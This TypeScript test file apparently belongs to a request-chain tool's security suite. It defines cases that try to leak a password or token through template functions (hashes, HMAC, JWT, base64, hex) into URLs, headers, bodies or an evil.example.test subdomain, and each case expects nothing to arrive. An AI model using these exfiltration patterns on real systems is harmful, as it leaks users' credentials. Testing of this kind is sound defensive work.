/** Attacks that compute with a secret, or with what followed from one: functions and variables of requests. */
import { learn, login, PASSWORD, send, type Attack, type AttackGroup, type Setup } from './attack';
import type { Stage } from './stage';

/** Each function, given the variable `v`. */
const CALLS: readonly string[] = [
  "{{$hmac 'sha256' v 'text'}}",
  "{{$hmac 'sha256' 'key' v}}",
  "{{$hash 'sha256' v}}",
  "{{$hash 'md5' v 'base64'}}",
  "{{$jwt 'HS256' v claims}}",
  "{{$jwt 'HS256' 'key' v}}",
  "{{$totp v 6 30 'sha1' 'utf8'}}",
  '{{$base64 v}}',
  '{{$base64url v}}',
  '{{$base64Decode coded}}',
  '{{$hex v}}',
  '{{$urlEncode v}}',
  '{{$json v}}',
  "{{$concat 'a' v 'b'}}",
  '{{$upper v}}',
  '{{$lower v}}',
  '{{$trim v}}',
  '{{$length v}}',
];

const withConstants = (variables: object): object => ({ formatVersion: 2, variables });
const CLAIMS = { claims: { sub: 1 } };

const calls: readonly Attack[] = CALLS.flatMap((call): readonly Attack[] => [
  {
    name: `sends ${call} of the password to an origin that the chain writes`,
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot`, { body: { text: call } })],
      chain: withConstants({ v: PASSWORD, coded: '{{$base64 v}}', ...CLAIMS }),
    }),
  },
  {
    name: `sends ${call} of a token by a variable of the request`,
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        login,
        send(`${stranger}/loot/{{w}}`, {
          variables: { w: { deep: [call] }, v: '{{token}}', coded: '{{$base64 v}}' },
        }),
      ],
      chain: withConstants(CLAIMS),
    }),
  },
]);

/** Where the password is before a function gets it, and how the result is used. */
const WAYS: readonly (readonly [name: string, setup: (stage: Stage) => Setup])[] = [
  [
    'a constant in a constant',
    ({ stranger }) => ({
      requests: [send(`${stranger}/loot/{{c}}`)],
      chain: withConstants({ a: PASSWORD, b: '{{$hex a}}', c: "{{$concat 'x' b}}" }),
    }),
  ],
  [
    'a variable of the environment',
    ({ shop, stranger }) => ({
      requests: [send(`${stranger}/loot/{{$upper key}}`)],
      chain: withConstants({}),
      environment: { variables: { baseUrl: shop, key: PASSWORD } },
    }),
  ],
  [
    'its own body',
    ({ stranger }) => ({
      requests: [
        send(`${stranger}/loot`, {
          body: { text: '{{$base64 key}}' },
          headers: [{ name: 'X-Hash', value: "{{$hash 'sha256' $request.body}}" }],
        }),
      ],
      chain: withConstants({ key: PASSWORD }),
    }),
  ],
  [
    'its own authentication',
    ({ stranger }) => ({
      requests: [
        send(`${stranger}/loot`, {
          auth: { type: 'bearer', token: '{{signed}}' },
          variables: { key: PASSWORD, signed: "{{$hmac 'sha256' key $request.path}}" },
        }),
      ],
      chain: withConstants({}),
    }),
  ],
  [
    'the length of a part of the token',
    ({ stranger }) => ({
      requests: [
        { ...login, extract: [{ variable: 'piece', from: 'body', regex: '"token":"(.{7})' }] },
        send(`${stranger}/loot/{{$length piece}}`),
      ],
      chain: withConstants({}),
    }),
  ],
  [
    'the kind of random data',
    ({ stranger }) => ({
      requests: [learn('link', { regex: '"(url)"' }), send(`${stranger}/loot/{{$random piece}}`)],
      chain: withConstants({}),
    }),
  ],
  [
    'the name of a host',
    ({ strangerPort, proxy }) => ({
      requests: [
        send(`http://{{host}}.evil.example.test:${strangerPort}/`, { variables: { host: '{{$hex key}}' } }),
      ],
      chain: withConstants({ key: PASSWORD }),
      args: ['--proxy', proxy],
    }),
  ],
];

const ways: readonly Attack[] = WAYS.map(([way, setup]) => ({
  name: `computes from the password through ${way}, and sends that`,
  verdict: 'nothing-arrives',
  setup,
}));

const redirects: readonly Attack[] = ['redirect-bare/302', 'redirect-bare/307', 'redirect-relative'].map(
  (route) => ({
    name: `follows ${route} with a signature by the password`,
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        {
          id: 'learn',
          method: 'GET',
          url: `{{baseUrl}}/${route}`,
          headers: [{ name: 'X-Trace', value: "{{$hmac 'sha256' key $request.url}}" }],
          variables: { key: PASSWORD },
        },
        { ...send(`${stranger}/named`), disabled: true },
      ],
      chain: withConstants({}),
    }),
  }),
);

/** What functions make of a secret. */
export const computedValues: AttackGroup = {
  name: 'computed values',
  attacks: [...calls, ...ways, ...redirects],
};
